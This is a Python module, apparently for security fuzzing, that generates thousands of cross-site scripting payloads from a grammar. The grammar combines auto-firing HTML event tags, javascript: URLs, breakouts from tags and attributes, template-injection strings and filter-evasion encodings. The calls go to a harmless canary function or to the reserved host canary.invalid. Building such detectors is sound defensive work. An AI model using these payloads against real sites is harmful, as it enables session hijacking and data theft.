"""Ways to have a browser run what was only meant to be read: made by a grammar, contexts × tags ×
events × ways of writing. Each calls `tripped()` or asks the canary's host."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

CANARY = "canary.invalid"
#: What a vector does once it runs.
CALLS = (
    "tripped(1)",
    "alert(1)",
    "print(1)",
    "prompt(1)",
    "self['tripped'](1)",
    f"fetch('//{CANARY}/')",
    "tripped`1`",
)
#: Tags that need no hand to run an event of theirs, and what brings it about.
EVENTS = (
    "<img src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<details open ontoggle={call}>x",
    "<video><source onerror={call}>",
    "<audio src=x onerror={call}>",
    "<iframe onload={call}>",
    "<object data=x onerror={call}>",
    "<marquee onstart={call}>x",
    "<style onload={call}></style>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributeName=x>",
    "<a href=# onmouseover={call}>x</a>",
    "<p tabindex=1 onfocus={call}>x</p>",
    "<x onpointerenter={call}>x</x>",
    "<img srcset=x onerror={call}>",
)
#: Tags that run something by themselves, or by an address.
TAGS = (
    "<script>{call}</script>",
    "<script src=//canary.invalid/x></script>",
    "<svg><script>{call}</script></svg>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<embed src=javascript:{call}>",
    "<object data=javascript:{call}>",
    "<a href=javascript:{call}>x</a>",
    "<a href='java\tscript:{call}'>x</a>",
    "<a href='&#106;avascript:{call}'>x</a>",
    "<form action=javascript:{call}><button>x",
    "<button formaction=javascript:{call}>x",
    "<svg><a xlink:href=javascript:{call}><text>x",
    "<math href=javascript:{call}>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href=//canary.invalid/>",
    "<link rel=import href=//canary.invalid/>",
    "<style>@import '//canary.invalid/x';</style>",
    "<div style='background:url(//canary.invalid/x)'>x",
    "<img src=//canary.invalid/x onerror={call}>",
    "<template><img src=x onerror={call}></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<svg></p><style><a id='</style><img src=x onerror={call}>'>",
)
#: What stands before it: ways out of where the text was put.
WAYS_OUT = (
    "{x}",
    '"{x}',
    "'>{x}",
    '">{x}',
    "</title>{x}",
    "</textarea>{x}",
    "</script>{x}",
    "</style>{x}",
    "-->{x}",
    "]]>{x}",
    "</template>{x}",
    "</option></select>{x}",
    "\\u003c/script>{x}",
    "`}}{x}",
)
#: Ways to write the whole so that a filter may miss it.
WRITTEN = (
    str,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\0", 1),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "&amp;lt;"),
)
#: What breaks out of an attribute, a script or a template without any tag.
BARE = (
    '" autofocus onfocus={call} x="',
    "' autofocus onfocus={call} x='",
    '" onmouseover={call} x="',
    "` onerror={call} x=`",
    "';{call}//",
    '";{call}//',
    '"-{call}-"',
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "{{% include '{call}' %}}",
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "\x01javascript:{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "\u2028{call}//",
)


def every_vector() -> Iterator[str]:
    """All of the grammar, each once."""
    calls = cycle(CALLS)
    for bare in BARE:
        for call in CALLS:
            yield bare.format(call=call)
    for way_out in WAYS_OUT:
        for tag in (*EVENTS, *TAGS):
            for written in WRITTEN:
                whole = written(way_out.format(x=tag.format(call=next(calls))))
                # Case makes no difference to a tag; it does to what it calls.
                yield whole.replace("TRIPPED", "tripped").replace("ALERT", "alert")


def vectors(number: int = 1_000) -> list[str]:
    """So many of them, evenly spread."""
    whole = list(dict.fromkeys(every_vector()))
    return [whole[at * len(whole) // number] for at in range(number)]


def packed(most: int, found: list[str]) -> list[str]:
    """The same in as few texts of at most `most` characters as they fit into; longer ones are left
    to fields that are longer."""
    texts, text = list[str](), ""
    for vector in found:
        if len(vector) > most:
            continue
        if text and len(text) + len(vector) + 1 > most:
            texts.append(text)
            text = ""
        text = f"{text} {vector}" if text else vector
    return [*texts, text]
